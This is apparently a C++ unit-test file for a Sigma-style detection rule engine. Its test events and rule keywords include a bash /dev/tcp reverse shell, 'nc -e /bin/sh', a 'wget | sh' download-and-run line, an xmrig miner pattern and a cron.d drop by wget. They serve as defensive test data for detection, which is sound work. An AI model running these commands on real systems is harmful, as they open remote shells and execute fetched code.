#include "sigma/rule_set.h"

#include <gtest/gtest.h>

#include "sigma/rule_set_testing.h"

namespace sigma {
namespace {

using tests::event_with;
using tests::hits;
using tests::process;
using tests::rules_of;

TEST(RuleSet, MapsSigmasNamesToOurFields) {
  struct Case {
    const char* field;
    const char* value;
  };
  const auto event = process("/usr/bin/curl", "curl -s x",
                             {{"ParentExecutable", "/bin/sh"},
                              {"ParentCommandLine", "sh -c x"},
                              {"Cwd", "/tmp"},
                              {"Odd", "1"}});
  for (const Case& test : std::initializer_list<Case>{{"Image", "/usr/bin/curl"},
                                                      {"Executable", "/usr/bin/curl"},
                                                      {"CommandLine", "curl -s x"},
                                                      {"User", "root"},
                                                      {"ProcessId", "4242"},
                                                      {"ParentImage", "/bin/sh"},
                                                      {"ParentCommandLine", "sh -c x"},
                                                      {"CurrentDirectory", "/tmp"},
                                                      {"ExtraDetails.Odd", "1"}}) {
    const auto set =
        rules_of(std::string("  s: {") + test.field + ": '" + test.value + "'}\n  condition: s\n");
    EXPECT_EQ(hits(set, event).size(), 1U) << test.field;
    schema::Event other;
    other.payload = schema::payload_of(schema::ProcessCreate());
    EXPECT_EQ(hits(set, other).size(), 0U) << test.field;
  }
}

TEST(RuleSet, SaysWhatMatched) {
  const auto set = rules_of(R"(
  image: {Image|endswith: [/wget, /curl]}
  args: {CommandLine|contains|all: ['-s', 'http']}
  filter: {User: nobody}
  condition: image and args and not filter
)");
  const auto found = hits(set, process("/usr/bin/curl", "curl -s HTTP://x/"));
  ASSERT_EQ(found.size(), 1U);
  ASSERT_EQ(found[0].matched.size(), 3U);
  EXPECT_EQ(found[0].matched[0].field, "Executable");
  EXPECT_EQ(found[0].matched[0].value, "/usr/bin/curl");
  EXPECT_EQ(found[0].matched[0].pattern, "ends with '/curl'");
  EXPECT_EQ(found[0].matched[1].pattern, "contains '-s'");
  EXPECT_EQ(found[0].matched[2].pattern, "contains 'http'");
  EXPECT_EQ(found[0].matched[0].found, "/curl");
  EXPECT_EQ(found[0].matched[1].found, "-s");
  EXPECT_EQ(found[0].matched[2].found, "HTTP");
}

TEST(RuleSet, SaysWhatWasFound) {
  struct Case {
    const char* test;
    const char* command;
    const char* found;
  };
  for (const Case& test : std::initializer_list<Case>{
           {"CommandLine|re: '(?i)(^|\\s)(xmrig(-cpu)?)(\\s|$)'", "run XMRig-cpu now", "XMRig-cpu"},
           {"CommandLine|re: 'x+y'", "a xxxy b", "xxxy"},
           {"CommandLine: 'wget *| sh*'", "wget http://x | sh -", "wget "},
           {"CommandLine|startswith: wget", "wget wget", "wget"},
           {"CommandLine|endswith: wget", "wget x wget", "wget"},
           {"ProcessId|gt: 1", "x", ""},
           {"ExtraDetails.Missing: null", "x", ""}}) {
    const auto set = rules_of(std::string("  s:\n    ") + test.test + "\n  condition: s\n");
    const auto found = hits(set, process("/bin/x", test.command));
    ASSERT_EQ(found.size(), 1U) << test.test;
    EXPECT_EQ(found[0].matched[0].found, test.found) << test.test;
  }
}

TEST(RuleSet, KeywordsLookIntoEveryField) {
  const auto set = rules_of("  words: [xyzzy, plugh]\n  condition: words\n");
  EXPECT_EQ(hits(set, process("/opt/Xyzzy1", "a")).size(), 1U);
  EXPECT_EQ(hits(set, process("/opt/a", "say plugh.")).size(), 1U);
  EXPECT_EQ(hits(set, process("/opt/a", "b")).size(), 0U);
}

TEST(RuleSet, ConnectionsAndOurOwnEvents) {
  schema::ConnectionCreate item;
  item.direction = schema::Direction::Out;
  item.remote_address = "203.0.113.9";
  item.remote_port = "4444";
  schema::Event connection;
  connection.payload = schema::payload_of(item);
  const auto set = rules_of(
      "  s: {Initiated: 'true', DestinationIp|cidr: 203.0.113.0/24, DestinationPort: 4444}\n  "
      "condition: s\n",
      "category: network_connection");
  EXPECT_EQ(hits(set, connection).size(), 1U);
  EXPECT_EQ(hits(set, process("/x", "203.0.113.9 4444 Out")).size(), 0U) << "another event";

  schema::Login login;
  login.result = schema::LoginResult::Fail;
  schema::Event event;
  event.payload = schema::payload_of(login);
  const auto logins =
      rules_of("  s: {Result: Fail}\n  condition: s\n", "product: vedette\n  category: Login");
  EXPECT_EQ(hits(logins, event).size(), 1U);
}

TEST(RuleSet, FileEvents) {
  schema::FileEvent item;
  item.path = "/etc/cron.d/x";
  item.operation = schema::FileOperation::Create;
  item.executable = "/usr/bin/wget";
  const std::string detection =
      "  s: {TargetFilename|startswith: /etc/cron.d/, Image|endswith: /wget}\n"
      "  condition: s\n";
  const auto made = rules_of(detection, "product: linux\n  category: file_event");
  EXPECT_EQ(hits(made, event_with(item)).size(), 1U);
  const auto deleted = rules_of(detection, "product: linux\n  category: file_delete");
  EXPECT_EQ(hits(deleted, event_with(item)).size(), 0U);
  item.operation = schema::FileOperation::Delete;
  EXPECT_EQ(hits(made, event_with(item)).size(), 0U);
  EXPECT_EQ(hits(deleted, event_with(item)).size(), 1U);
  // What is renamed lies where its new name says.
  item.operation = schema::FileOperation::Rename;
  item.path = "/tmp/y";
  item.new_path = "/etc/cron.d/x";
  const auto found = hits(made, event_with(item));
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].matched[0].value, "/etc/cron.d/x");
  const auto source = rules_of("  s: {SourceFilename: /tmp/y}\n  condition: s\n",
                               "product: linux\n  category: file_rename");
  EXPECT_EQ(hits(source, event_with(item)).size(), 1U);
}

TEST(RuleSet, AuditRecords) {
  struct Case {
    const char* test;
    const char* type;
    const char* record;
    bool holds;
  };
  const char* const call =
      "arch=c000003e syscall=319 success=yes exit=3 a0=7ffd a1=1 pid=7 auid=1000 euid=33 "
      "comm=\"a b\" exe=\"/usr/bin/x\" key=\"mem\"";
  for (const Case& test : std::initializer_list<Case>{
           {"{type: SYSCALL, SYSCALL: memfd_create}", "SYSCALL", call, true},
           {"{type: SYSCALL, SYSCALL: mknod}", "SYSCALL", call, false},
           {"{SYSCALL: memfd_create}", "SYSCALL", "arch=c00000b7 syscall=279", true},
           {"{SYSCALL: memfd_create}", "SYSCALL", "syscall=1 SYSCALL=memfd_create", true},
           {"{SYSCALL: memfd_create}", "SYSCALL", "arch=zzz syscall=319", false},
           {"{a0: 7ffd, key: mem, euid: 33}", "SYSCALL", call, true},
           {"{comm: 'a b'}", "SYSCALL", call, true},
           {"{comm: 'a b'}", "SYSCALL", "comm=612062", true},
           {"{key|exists: false}", "SYSCALL", "comm=612062 key=(null)", true},
           {"{a0: chmod, a1: '+s x'}", "EXECVE", "argc=2 a0=\"chmod\" a1=2B732078", true},
           {"{a1: '2B732078'}", "SYSCALL", "a1=2B732078", true},
           {"{name|startswith: /etc/}", "PATH", "item=0 name=\"/etc/passwd\" nametype=NORMAL",
            true},
           {"{Record.unit: auditd}", "SERVICE_STOP", "pid=1 msg='unit=auditd comm=\"systemd\"'",
            true},
           {"{type: SERVICE_STOP, unit: [auditd, ufw]}", "SERVICE_STOP",
            "msg='unit=ufw res=success'", true}}) {
    const auto set = rules_of(std::string("  s: ") + test.test + "\n  condition: s\n",
                              "product: linux\n  service: auditd");
    schema::AuditRecord item;
    item.record_type = test.type;
    item.record = test.record;
    EXPECT_EQ(hits(set, event_with(item)).size(), test.holds ? 1U : 0U)
        << test.test << " " << test.record;
  }
}

TEST(RuleSet, ARuleForLinuxLooksAtAllThatHappens) {
  const auto set =
      rules_of("  words: ['/dev/tcp/', 'nc -e']\n  condition: words\n", "product: linux");
  EXPECT_EQ(hits(set, process("/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/1")).size(), 1U);
  schema::AuditRecord record;
  record.record_type = "USER_CMD";
  record.record = "msg='cmd=nc -e /bin/sh'";
  EXPECT_EQ(hits(set, event_with(record)).size(), 1U);
  schema::FileEvent file;
  file.path = "/dev/tcp/1";
  EXPECT_EQ(hits(set, event_with(file)).size(), 1U);
  EXPECT_EQ(hits(set, event_with(schema::Heartbeat())).size(), 0U);
  // With fields, those events that have them.
  const auto lines =
      rules_of("  s: {CommandLine|contains: secret}\n  condition: s\n", "product: linux");
  EXPECT_EQ(hits(lines, process("/bin/a", "a secret")).size(), 1U);
  schema::Login login;
  login.user_name = "secret";
  EXPECT_EQ(hits(lines, event_with(login)).size(), 0U);
}

TEST(RuleSet, TheEventsTime) {
  auto event = process("/bin/a", "a");
  event.time = *base::parse_rfc3339("2026-03-01T23:30:00+01:00");
  const auto local = rules_of("  s: {TimestampLocal|hour|gte: 23}\n  condition: s\n");
  const auto utc = rules_of("  s: {TimestampUTC|hour: [22]}\n  condition: s\n");
  EXPECT_EQ(hits(local, event).size(), 1U);
  EXPECT_EQ(hits(utc, event).size(), 1U);
  event.time.utc += std::chrono::hours{1};
  EXPECT_EQ(hits(local, event).size(), 0U);
  EXPECT_EQ(hits(utc, event).size(), 0U);
}

TEST(RuleSet, PlaceholdersAreListsOfValues) {
  const Placeholders lists = {{"admins", {"root", "adm_*"}}, {"tools", {"nc", "socat"}}};
  const auto set_of = [&](const std::string& test) {
    RuleSet set;
    auto parsed = parse("title: t\nlogsource: {category: process_creation}\ndetection:\n  s: {" +
                            test + "}\n  condition: s\n",
                        lists);
    EXPECT_EQ(parsed.problems.size(), 0U) << parsed.problems[0].to_string("t");
    for (Rule& rule : parsed.rules)
      EXPECT_TRUE(set.add(std::move(rule)));
    set.build();
    return set;
  };
  const auto event = process("/bin/x", "socat as a.b");
  EXPECT_EQ(hits(set_of("User|expand: '%admins%'"), event).size(), 1U);
  EXPECT_EQ(hits(set_of("User|expand|neq: '%admins%'"), event).size(), 0U);
  EXPECT_EQ(hits(set_of("CommandLine|startswith|expand: '%tools% '"), event).size(), 1U);
  EXPECT_EQ(hits(set_of("CommandLine|contains|all|expand: ['%tools%', ' as ']"), event).size(), 1U);
  EXPECT_EQ(hits(set_of("CommandLine|contains|all|expand: ['%tools%', ' is ']"), event).size(), 0U);
  EXPECT_EQ(hits(set_of("CommandLine|re|expand: '^(%tools%) .s'"), event).size(), 1U);
  EXPECT_EQ(hits(set_of("CommandLine|re|all|expand: ['^%tools%', 'a.b$']"), event).size(), 1U);
}

constexpr std::string_view kShellRule =
    "title: Shell\nid: 0d9d37ab-2b7c-4a0f-9a94-2f8d7cf3c2a1\nname: shell_started\n"
    "logsource: {product: linux, category: process_creation}\n"
    "detection: {s: {Image|endswith: /sh}, condition: s}\n";

RuleSet filtered(const std::string& filter, std::vector<Problem>* problems = nullptr) {
  RuleSet set;
  for (Rule& rule : parse(kShellRule).rules)
    EXPECT_TRUE(set.add(std::move(rule)));
  auto parsed = parse(filter);
  EXPECT_EQ(parsed.problems.size(), 0U) << parsed.problems[0].to_string("filter");
  for (const Filter& one : parsed.filters) {
    for (Problem& problem : set.leave_out(one)) {
      EXPECT_NE(problems, nullptr) << problem.to_string("filter");
      if (problems != nullptr) problems->push_back(std::move(problem));
    }
  }
  set.build();
  return set;
}

TEST(RuleSet, FiltersLeaveOutWhatTheyDescribe) {
  for (const char* rules : {"[0d9d37ab-2b7c-4a0f-9a94-2f8d7cf3c2a1]", "shell_started", "any"}) {
    for (const char* condition : {"backup or cron", "not (backup or cron)", "1 of them"}) {
      const auto set =
          filtered(std::string("title: f\nlogsource: {category: process_creation}\n"
                               "filter:\n  rules: ") +
                   rules + "\n  backup: {CommandLine|contains: backup}\n" +
                   "  cron: {ParentImage|endswith: /cron}\n  condition: " + condition + "\n");
      EXPECT_EQ(hits(set, process("/bin/sh", "sh x")).size(), 1U) << rules << condition;
      EXPECT_EQ(hits(set, process("/bin/sh", "sh backup.sh")).size(), 0U) << rules << condition;
      EXPECT_EQ(
          hits(set, process("/bin/sh", "sh x", {{"ParentExecutable", "/usr/sbin/cron"}})).size(),
          0U);
    }
  }
}

TEST(RuleSet, SeveralFiltersOfOneRule) {
  const auto set = filtered(
      "title: a\nlogsource: {}\nfilter: {rules: any, s: {User: a}, condition: s}\n---\n"
      "title: b\nlogsource: {}\nfilter: {rules: any, s: {CommandLine: b}, condition: s}\n");
  EXPECT_EQ(hits(set, process("/bin/sh", "c")).size(), 1U);
  EXPECT_EQ(hits(set, process("/bin/sh", "b")).size(), 0U);
}

TEST(RuleSet, SaysWhichFiltersCannotBe) {
  struct Case {
    const char* filter;
    const char* problem;
  };
  for (const Case& test : std::initializer_list<Case>{
           {"{rules: [shell_startd], s: {User: a}, condition: s}",
            "f:3:18: expected the id or the name of a rule that is in force, found 'shell_startd' "
            "(did you mean 'shell_started'?)"},
           {"{rules: [shell_started], s: {Usr: a}, condition: s}",
            "f:3:38: expected a field of ProcessCreate or ExtraDetails.<name>, found 'Usr' (did "
            "you "
            "mean 'User'?)"}}) {
    std::vector<Problem> problems;
    const auto set = filtered(
        std::string("title: f\nlogsource: {product: linux}\nfilter: ") + test.filter + "\n",
        &problems);
    ASSERT_EQ(problems.size(), 1U) << test.filter;
    EXPECT_EQ(problems[0].to_string("f"), test.problem);
    EXPECT_EQ(hits(set, process("/bin/sh", "x")).size(), 1U) << "the rule goes on";
  }
  std::vector<Problem> problems;
  filtered(
      "title: f\nlogsource: {category: file_event}\n"
      "filter: {rules: shell_started, s: {User: a}, condition: s}\n",
      &problems);
  ASSERT_EQ(problems.size(), 1U);
  EXPECT_NE(problems[0].message.find("another log source"), std::string::npos);
}

TEST(RuleSet, RefusesWhatItCannotRun) {
  struct Case {
    const char* source;
    const char* detection;
    Refusal::Kind kind;
    const char* message;
  };
  for (const Case& test : std::initializer_list<Case>{
           {"{product: linux, service: sshd}", "{s: [error], condition: s}",
            Refusal::Kind::NoEvents,
            "product=linux service=sshd: agents send events, not the lines of that log"},
           {"{product: linux, service: auditd}", "{s: {type: EXECVE, AUID: 0}, condition: s}",
            Refusal::Kind::Wrong, "expected a field of AuditRecord"},
           {"{category: dns_query}", "{s: {QueryName: x}, condition: s}", Refusal::Kind::NoEvents,
            "category=dns_query"},
           {"{product: windows, category: process_creation}", "{s: {Image: x}, condition: s}",
            Refusal::Kind::NoEvents, "windows"},
           {"{product: vedette, category: Logon}", "{s: {Result: x}, condition: s}",
            Refusal::Kind::NoEvents, "category=Logon (did you mean 'Login'?)"},
           {"{category: process_creation}", "{s: {Imag: x}, condition: s}", Refusal::Kind::Wrong,
            "did you mean 'Image'?"},
           {"{category: process_creation}", "{s: {Image|re: '('}, condition: s}",
            Refusal::Kind::Wrong, "missing )"}}) {
    auto parsed = parse(std::string("title: x\nlogsource: ") + test.source +
                        "\ndetection: " + test.detection + "\n");
    ASSERT_EQ(parsed.rules.size(), 1U) << test.detection;
    RuleSet set;
    const auto added = set.add(std::move(parsed.rules[0]));
    ASSERT_FALSE(added) << test.source;
    EXPECT_EQ(added.error().kind, test.kind);
    EXPECT_NE(added.error().problem.message.find(test.message), std::string::npos)
        << added.error().problem.message;
    EXPECT_GT(added.error().problem.line, 0);
    EXPECT_EQ(set.size(), 0U);
  }
}

TEST(RuleSet, ALaterRuleOfTheSameIdReplacesTheEarlier) {
  RuleSet set;
  const std::string head =
      "title: x\nid: 0d9d37ab-2b7c-4a0f-9a94-2f8d7cf3c2a1\nlogsource: {category: "
      "process_creation}\n";
  ASSERT_TRUE(set.add(parse(head + "detection: {s: {Image: a}, condition: s}\n").rules.at(0)));
  ASSERT_TRUE(set.add(parse(head + "detection: {s: {Image: b}, condition: s}\n").rules.at(0)));
  set.build();
  EXPECT_EQ(set.size(), 1U);
  EXPECT_EQ(hits(set, process("a", "")).size(), 0U);
  EXPECT_EQ(hits(set, process("b", "")).size(), 1U);
}

}  // namespace
}  // namespace sigma
